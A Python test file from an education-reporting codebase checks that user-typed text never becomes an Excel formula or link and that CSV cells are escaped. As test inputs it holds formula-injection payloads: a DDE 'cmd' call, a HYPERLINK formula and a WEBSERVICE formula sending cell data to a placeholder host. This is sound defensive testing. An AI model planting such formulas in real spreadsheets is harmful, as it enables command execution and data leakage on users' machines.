"""No cell of any file we write is a formula unless we wrote the formula: whatever people typed stays text."""

import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import Workbook, load_workbook

from dudao.reporting.cell_text import harmless
from dudao.reporting.duty_list import DutyLine, duty_workbook
from dudao.reporting.fill_in_sheet import FillInRow, fill_in_sheet
from dudao.reporting.findings_list import FindingLine, findings_workbook
from dudao.reporting.self_evaluation import PrintedItem, PrintedSection, SelfEvaluation, score_sheet_xlsx
from dudao.tables.kinds.schools import SCHOOLS
from dudao.tables.mark import write_marked_copy
from dudao.tables.read import read_table
from dudao.tables.template import write_template

ROOT = Path(__file__).resolve().parents[2]
TYPED = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://x")',
    "=cmd|' /c calc'!A1",
    "http://x.example/",
]


def formulas_of(book: bytes) -> list[str]:
    """Return every formula and link of a workbook, out of its XML."""
    found = []
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                for element in ElementTree.fromstring(archive.read(name)).iter():
                    kind = element.tag.rpartition("}")[2]
                    if kind == "f":
                        found.append(element.text or "")
                    elif kind == "hyperlink":
                        found.append("link")
    return found


@pytest.mark.parametrize("typed", TYPED)
def test_texts_that_people_typed_are_never_formulas(typed: str) -> None:
    line = FindingLine(**dict.fromkeys(FindingLine.__dataclass_fields__, typed))
    duty = DutyLine(typed, typed, typed, typed, typed, typed)
    books = [
        findings_workbook(typed, typed, [line]),
        duty_workbook(typed, [duty], departments=[typed], items={typed: typed}),
        fill_in_sheet(typed, [FillInRow(*[typed] * 8)]),
    ]
    for book in books:
        assert formulas_of(book) == []


@pytest.mark.parametrize("typed", TYPED)
def test_the_sheet_of_points_holds_our_own_sums_alone(typed: str) -> None:
    section = PrintedSection(typed, None, None, (PrintedItem(typed, typed, None, None, typed),))
    content = SelfEvaluation(typed, 2022, typed, typed, typed, None, None, (section,), typed, typed)
    assert all(formula.startswith("SUM(") for formula in formulas_of(score_sheet_xlsx(content)))


def _schools(path: Path, name: str) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["学校名称", "学校标识码", "办学类型", "县区代码", "在校生数", "专任教师数"])
    sheet.append(["x", "2100000001", "小学", "990101", 100, 10])
    sheet["A2"].value = name
    sheet["A2"].data_type = "s"
    book.save(path)
    return path


@pytest.mark.parametrize("typed", TYPED)
def test_a_template_takes_the_names_of_last_year_as_text(typed: str, tmp_path: Path) -> None:
    last = read_table(_schools(tmp_path / "last.xlsx", typed), SCHOOLS)
    write_template(SCHOOLS, tmp_path / "template.xlsx", last=last)
    raw = (tmp_path / "template.xlsx").read_bytes()
    assert formulas_of(raw) == []
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        assert typed.strip().split("(")[0].split(" ")[0] in archive.read("xl/sharedStrings.xml").decode()


def test_a_marked_copy_keeps_sums_and_no_way_out(tmp_path: Path) -> None:
    path = _schools(tmp_path / "given.xlsx", "一小")
    book = load_workbook(path)
    sheet = book.worksheets[0]
    sheet["H2"] = "=SUM(E2:F2)"
    sheet["H3"] = '=WEBSERVICE("http://x.example/"&A2)'
    sheet["H4"] = "=cmd|' /c calc'!A1"
    sheet["H5"].hyperlink = "http://x.example/"
    book.save(path)
    write_marked_copy(path, read_table(path, SCHOOLS), tmp_path / "marked.xlsx")
    assert formulas_of((tmp_path / "marked.xlsx").read_bytes()) == ["SUM(E2:F2)"]


@pytest.mark.parametrize("typed", [*TYPED[:8], "  =1", "\u3000=1", "\n=1", "＝1", "|x"])
def test_cells_of_csv_files_do_not_begin_as_formulas(typed: str) -> None:
    assert harmless(typed) == f"'{typed}"


@pytest.mark.parametrize("plain", ["一小", "3.5", "", "a=1", "http://x"])
def test_other_cells_stay_as_they_are(plain: str) -> None:
    assert harmless(plain) == plain
    assert harmless(None) == ""


def test_every_writer_of_workbooks_is_looked_at_here() -> None:
    """A module that opens a workbook says that texts are no formulas, or writes formulas with that very call alone."""
    writers = [path for path in (ROOT / "src").rglob("*.py") if "xlsxwriter.Workbook(" in path.read_text()]
    assert len(writers) >= 6
    for path in writers:
        text = path.read_text()
        bare = [part for part in text.split("\n") if ".write(" in part and "sheet" in part]
        assert '"strings_to_formulas": False' in text or not bare, path
